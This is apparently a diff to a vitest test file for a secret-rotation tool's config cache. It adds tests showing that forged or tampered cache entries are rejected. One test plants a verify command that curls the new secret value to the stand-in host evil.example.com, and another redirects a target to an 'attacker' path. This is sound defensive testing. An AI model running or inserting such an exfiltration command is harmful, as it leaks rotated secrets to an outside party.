@@ -1,9 +1,9 @@
-import {mkdtemp, readFile, rm, writeFile} from 'node:fs/promises'
+import {mkdtemp, readFile, rm, stat, writeFile} from 'node:fs/promises'
 import {tmpdir} from 'node:os'
 import {join} from 'node:path'
 import {afterEach, beforeEach, describe, expect, it} from 'vitest'
-import {cacheFile, readCachedConfig} from '../../../src/config/cache.js'
-import {loadConfig} from '../../../src/config/index.js'
+import {cacheFile, cacheKeyFile, readCachedConfig} from '../../../src/config/cache.js'
+import {loadConfig, type RotorConfig} from '../../../src/config/index.js'
 
 const text = `version: 1
 stores:
@@ -14,6 +14,22 @@ secrets:
     maxAge: 30d
     targets: [local:api]
 `
+
+const verified = `${text}    verify:
+      http:
+        url: https://api.example.com/check
+        headers: {Authorization: "Bearer {{value}}"}
+`
+
+/** Rewrites the cached config as someone who can write `.rotor/cache` (but not the user's key) would. */
+async function tamper(file: string, change: (config: RotorConfig) => void): Promise<void> {
+  const path = cacheFile(file)
+  const entry = JSON.parse(await readFile(path, 'utf8')) as {config: string | RotorConfig}
+  const config = (typeof entry.config === 'string' ? JSON.parse(entry.config) : entry.config) as RotorConfig
+  change(config)
+  entry.config = typeof entry.config === 'string' ? JSON.stringify(config) : config
+  await writeFile(path, JSON.stringify(entry))
+}
 
 describe('validated-config cache', () => {
   let dir: string
@@ -52,6 +68,53 @@ describe('validated-config cache', () => {
   it('can be bypassed', async () => {
     await writeFile(file, text)
     await loadConfig(file, {}, {cache: false})
+    await expect(readFile(cacheFile(file), 'utf8')).rejects.toThrow(/ENOENT/)
+  })
+
+  it('keeps its key outside the project, mode 0600', async () => {
+    await writeFile(file, text)
+    await loadConfig(file, {})
+    expect(cacheKeyFile()).not.toContain(dir)
+    expect((await stat(cacheKeyFile())).mode & 0o777).toBe(0o600)
+    expect(await readCachedConfig(file, text)).toBeDefined()
+  })
+
+  it('ignores an entry whose verify check was swapped for a command', async () => {
+    await writeFile(file, verified)
+    const fresh = await loadConfig(file, {})
+    await tamper(file, (config) => {
+      config.secrets[0].verify = {command: {command: ['sh', '-c', 'curl https://evil.example.com -d "$ROTOR_NEW_VALUE"'], env: 'ROTOR_NEW_VALUE'}, timeoutMs: 1000, retries: 0}
+    })
+    expect(await readCachedConfig(file, verified)).toBeUndefined()
+    const loaded = await loadConfig(file, {})
+    expect(loaded).toEqual(fresh)
+    expect(loaded.secrets[0].verify).toHaveProperty('http')
+  })
+
+  it('ignores an entry whose target was changed', async () => {
+    await writeFile(file, text)
+    await loadConfig(file, {})
+    await tamper(file, (config) => {
+      config.secrets[0].targets = [{store: 'local', path: 'attacker/api'}]
+    })
+    expect(await readCachedConfig(file, text)).toBeUndefined()
+    expect((await loadConfig(file, {})).secrets[0].targets).toEqual([{store: 'local', path: 'api'}])
+  })
+
+  it('ignores an entry written without the key (a copied or forged cache)', async () => {
+    await writeFile(file, text)
+    await loadConfig(file, {})
+    const entry = JSON.parse(await readFile(cacheFile(file), 'utf8')) as {mac: string}
+    entry.mac = '0'.repeat(64)
+    await writeFile(cacheFile(file), JSON.stringify(entry))
+    expect(await readCachedConfig(file, text)).toBeUndefined()
+  })
+
+  it('never caches a config with a verify command', async () => {
+    const withCommand = `${text}    verify:\n      command:\n        command: ["./check.sh"]\n`
+    await writeFile(file, withCommand)
+    const loaded = await loadConfig(file, {})
+    expect(loaded.secrets[0].verify).toHaveProperty('command')
     await expect(readFile(cacheFile(file), 'utf8')).rejects.toThrow(/ENOENT/)
   })
 })
